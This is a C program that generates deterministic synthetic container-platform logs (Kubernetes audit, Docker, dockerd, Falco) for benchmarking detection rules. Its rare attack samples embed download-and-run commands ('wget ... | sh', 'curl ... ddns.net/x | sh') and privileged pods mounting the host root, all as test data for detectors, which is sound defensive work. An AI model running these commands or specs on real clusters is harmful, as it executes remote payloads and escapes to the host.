/* SPDX-License-Identifier: Apache-2.0 */
/* Deterministic generator of realistic mixed container-platform events for
 * `make bench`: Kubernetes audit (controller traffic, deployments, exec,
 * secret reads), Docker events, dockerd debug lines with create bodies and
 * Falco alerts, with a sprinkling of events the shipped packs detect.
 *
 * usage: gen_events COUNT [SEED] [--k8s-only]   (writes JSON/log lines to stdout)
 * The same COUNT and SEED always give the same bytes. */
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

static uint64_t rng_state;

static uint32_t rnd(uint32_t n) {
    /* xorshift64*: fast, and the same on every platform */
    rng_state ^= rng_state >> 12;
    rng_state ^= rng_state << 25;
    rng_state ^= rng_state >> 27;
    return (uint32_t)(((rng_state * 2685821657736338717ull) >> 32) % n);
}

#define PICK(arr) (arr)[rnd(sizeof(arr) / sizeof((arr)[0]))]

static const char *namespaces[] = {"default",     "payments",      "web",   "monitoring",
                                   "kube-system", "ingress-nginx", "batch", "data"};
static const char *users[] = {"system:serviceaccount:kube-system:replicaset-controller",
                              "system:serviceaccount:kube-system:deployment-controller",
                              "system:kube-scheduler",
                              "system:node:ip-10-0-1-17",
                              "system:kube-controller-manager",
                              "alice@example.com",
                              "ci-deployer",
                              "system:serviceaccount:argocd:argocd-server"};
static const char *images[] = {"registry.k8s.io/pause:3.9",
                               "nginx:1.25.3",
                               "gcr.io/google-containers/busybox:1.27",
                               "redis:7.2",
                               "quay.io/prometheus/node-exporter:v1.7.0",
                               "registry.example.com/payments/api:2.14.1",
                               "postgres:16.1",
                               "docker.io/library/alpine:3.19"};
static const char *resources[] = {"pods",   "leases", "endpoints", "configmaps",
                                  "events", "nodes",  "services",  "replicasets"};
static const char *readonly_verbs[] = {"get", "list", "watch", "update", "patch"};

static void timestamp(char *buf, size_t n, uint64_t i) {
    unsigned s = (unsigned)(i / 50);
    snprintf(buf, n, "2026-11-%02uT%02u:%02u:%02u.%06uZ", 10 + (s / 86400) % 18, (s / 3600) % 24,
             (s / 60) % 60, s % 60, (unsigned)(i % 1000000));
}

static void uid(char *buf, size_t n) {
    snprintf(buf, n, "%08x-%04x-4%03x-8%03x-%08x%04x", rnd(0xFFFFFFFFu), rnd(0x10000), rnd(0x1000),
             rnd(0x1000), rnd(0xFFFFFFFFu), rnd(0x10000));
}

static void audit_head(uint64_t i, const char *verb, const char *user, const char *ns,
                       const char *resource, const char *sub, const char *name, int code) {
    char ts[40], id[40];
    timestamp(ts, sizeof ts, i);
    uid(id, sizeof id);
    printf("{\"kind\":\"Event\",\"apiVersion\":\"audit.k8s.io/v1\",\"level\":\"RequestResponse\","
           "\"auditID\":\"%s\",\"stage\":\"ResponseComplete\",\"requestURI\":\"/api/v1/"
           "namespaces/%s/%s/%s%s%s\",\"verb\":\"%s\",\"user\":{\"username\":\"%s\","
           "\"groups\":[\"system:authenticated\"]},\"sourceIPs\":[\"10.0.%u.%u\"],"
           "\"userAgent\":\"kube-controller-manager/v1.28.4 (linux/amd64) kubernetes/bae2c62\","
           "\"objectRef\":{\"resource\":\"%s\",\"namespace\":\"%s\",\"name\":\"%s\","
           "\"apiVersion\":\"v1\"%s%s%s},\"responseStatus\":{\"metadata\":{},\"code\":%d},"
           "\"requestReceivedTimestamp\":\"%s\",\"stageTimestamp\":\"%s\","
           "\"annotations\":{\"authorization.k8s.io/decision\":\"allow\","
           "\"authorization.k8s.io/reason\":\"RBAC: allowed by ClusterRoleBinding\"}",
           id, ns, resource, name, sub ? "/" : "", sub ? sub : "", verb, user, rnd(8), rnd(250),
           resource, ns, name, sub ? ",\"subresource\":\"" : "", sub ? sub : "", sub ? "\"" : "",
           code, ts, ts);
}

static void pod_spec(const char *image, int privileged, const char *host_path,
                     const char *command) {
    printf("{\"containers\":[{\"name\":\"app\",\"image\":\"%s\"", image);
    if (command)
        printf(",\"command\":[\"/bin/sh\",\"-c\",\"%s\"]", command);
    if (privileged)
        printf(",\"securityContext\":{\"privileged\":true}");
    if (host_path)
        printf(",\"volumeMounts\":[{\"name\":\"host\",\"mountPath\":\"/host\"}]");
    printf(",\"resources\":{\"limits\":{\"cpu\":\"500m\",\"memory\":\"256Mi\"}}}]");
    if (host_path)
        printf(",\"volumes\":[{\"name\":\"host\",\"hostPath\":{\"path\":\"%s\"}}]", host_path);
    printf(",\"restartPolicy\":\"Always\",\"serviceAccountName\":\"default\"}");
}

static void k8s_event(uint64_t i, int attack) {
    const char *ns = PICK(namespaces);
    char name[64];
    snprintf(name, sizeof name, "app-%u-%05u", rnd(40), rnd(100000));
    uint32_t kind = attack ? 100 + rnd(3) : rnd(100);
    if (kind < 78) { /* routine controller and node traffic */
        audit_head(i, PICK(readonly_verbs), PICK(users), ns, PICK(resources), NULL, name, 200);
        printf("}\n");
    } else if (kind < 90) { /* a routine deployment of a trusted image */
        audit_head(i, "create", "ci-deployer", ns, "deployments", NULL, name, 201);
        printf(",\"requestObject\":{\"kind\":\"Deployment\",\"apiVersion\":\"apps/v1\","
               "\"metadata\":{\"name\":\"%s\",\"namespace\":\"%s\"},\"spec\":{\"replicas\":2,"
               "\"template\":{\"metadata\":{\"labels\":{\"app\":\"%s\"}},\"spec\":",
               name, ns, name);
        pod_spec(PICK(images), 0, NULL, NULL);
        printf("}}}}\n");
    } else if (kind < 96) { /* secret reads */
        audit_head(i, "get", PICK(users), ns, "secrets", NULL, name, 200);
        printf("}\n");
    } else if (kind < 100) { /* kubectl exec, benign */
        audit_head(i, "create", "alice@example.com", ns, "pods", "exec", name, 101);
        printf("}\n");
    } else if (kind == 100) { /* privileged pod with the host root mounted */
        audit_head(i, "create", "alice@example.com", ns, "pods", NULL, name, 201);
        printf(",\"requestObject\":{\"kind\":\"Pod\",\"apiVersion\":\"v1\",\"metadata\":"
               "{\"name\":\"%s\"},\"spec\":",
               name);
        pod_spec("alpine:latest", 1, "/", NULL);
        printf("}}\n");
    } else if (kind == 101) { /* payload download piped to a shell */
        audit_head(i, "create", "system:anonymous", ns, "pods", NULL, name, 201);
        printf(",\"requestObject\":{\"kind\":\"Pod\",\"apiVersion\":\"v1\",\"metadata\":"
               "{\"name\":\"%s\"},\"spec\":",
               name);
        pod_spec("ubuntu", 0, NULL,
                 "apt-get update && apt-get install -y wget cron; "
                 "service cron start; wget -q -O - http://198.51.100.7/d.sh | sh");
        printf("}}\n");
    } else { /* pod pinned to a node in kube-system */
        audit_head(i, "create", "ci-deployer", "kube-system", "pods", NULL, name, 201);
        printf(",\"requestObject\":{\"kind\":\"Pod\",\"apiVersion\":\"v1\",\"metadata\":"
               "{\"name\":\"%s\"},\"spec\":{\"nodeName\":\"ip-10-0-1-17\",\"hostPID\":true,"
               "\"containers\":[{\"name\":\"x\",\"image\":\"busybox\"}]}}}\n",
               name);
    }
}

static void docker_event(uint64_t i) {
    static const char *actions[] = {"create", "start", "die", "destroy", "pull"};
    char id[80];
    snprintf(id, sizeof id, "%08x%08x%08x%08x%08x%08x%08x%08x", rnd(0xFFFFFFFFu), rnd(0xFFFFFFFFu),
             rnd(0xFFFFFFFFu), rnd(0xFFFFFFFFu), rnd(0xFFFFFFFFu), rnd(0xFFFFFFFFu),
             rnd(0xFFFFFFFFu), rnd(0xFFFFFFFFu));
    unsigned long long t = 1764000000ull + i / 20;
    printf("{\"status\":\"%s\",\"id\":\"%s\",\"from\":\"%s\",\"Type\":\"container\","
           "\"Action\":\"%s\",\"Actor\":{\"ID\":\"%s\",\"Attributes\":{\"image\":\"%s\","
           "\"name\":\"svc_%u\"}},\"scope\":\"local\",\"time\":%llu,\"timeNano\":%llu000000000}\n",
           PICK(actions), id, PICK(images), PICK(actions), id, PICK(images), rnd(100), t, t);
}

static void dockerd_lines(uint64_t i, int attack) {
    char ts[40];
    timestamp(ts, sizeof ts, i);
    printf("time=\"%s\" level=debug msg=\"Calling POST /v1.41/containers/create\"\n", ts);
    if (attack)
        printf("time=\"%s\" level=debug msg=\"form data: {\\\"Cmd\\\":[\\\"chroot\\\","
               "\\\"/mnt\\\",\\\"/bin/sh\\\",\\\"-c\\\",\\\"curl -s http://a1b2c3d4e5f6.ddns.net/x"
               " | sh\\\"],\\\"HostConfig\\\":{\\\"Binds\\\":[\\\"/:/mnt:rw\\\"],"
               "\\\"Privileged\\\":true},\\\"Image\\\":\\\"alpine:latest\\\"}\"\n",
               ts);
    else
        printf("time=\"%s\" level=debug msg=\"form data: {\\\"Cmd\\\":[\\\"nginx\\\",\\\"-g\\\","
               "\\\"daemon off;\\\"],\\\"HostConfig\\\":{\\\"Binds\\\":[\\\"/srv/www:/usr/share/"
               "nginx/html:ro\\\"]},\\\"Image\\\":\\\"nginx:1.25.3\\\"}\"\n",
               ts);
}

static void falco_alert(uint64_t i) {
    char ts[40];
    timestamp(ts, sizeof ts, i);
    printf("{\"output\":\"Notice A shell was spawned in a container\",\"priority\":\"Notice\","
           "\"rule\":\"Terminal shell in container\",\"time\":\"%s\",\"output_fields\":{"
           "\"container.id\":\"%08x\",\"container.image.repository\":\"nginx\","
           "\"container.name\":\"web_%u\",\"proc.cmdline\":\"bash -il\",\"proc.name\":\"bash\","
           "\"user.name\":\"root\",\"k8s.ns.name\":\"%s\",\"k8s.pod.name\":\"web-%u\"},"
           "\"hostname\":\"node-%u\",\"source\":\"syscall\",\"tags\":[\"container\",\"shell\"]}\n",
           ts, rnd(0xFFFFFFFFu), rnd(50), PICK(namespaces), rnd(500), rnd(12));
}

int main(int argc, char **argv) {
    if (argc < 2) {
        fprintf(stderr, "usage: gen_events COUNT [SEED] [--k8s-only]\n");
        return 2;
    }
    uint64_t count = strtoull(argv[1], NULL, 10);
    rng_state = argc > 2 && argv[2][0] != '-' ? strtoull(argv[2], NULL, 10) : 0x9E3779B97F4A7C15ull;
    if (rng_state == 0)
        rng_state = 1;
    int k8s_only = argc > 2 && strcmp(argv[argc - 1], "--k8s-only") == 0;
    for (uint64_t i = 0; i < count; i++) {
        int attack = rnd(1000) < 7; /* about 0.7% of events are worth an alert */
        uint32_t source = k8s_only ? 0 : rnd(100);
        if (source < 70)
            k8s_event(i, attack);
        else if (source < 80)
            docker_event(i);
        else if (source < 90)
            dockerd_lines(i, attack);
        else
            falco_alert(i);
    }
    return 0;
}
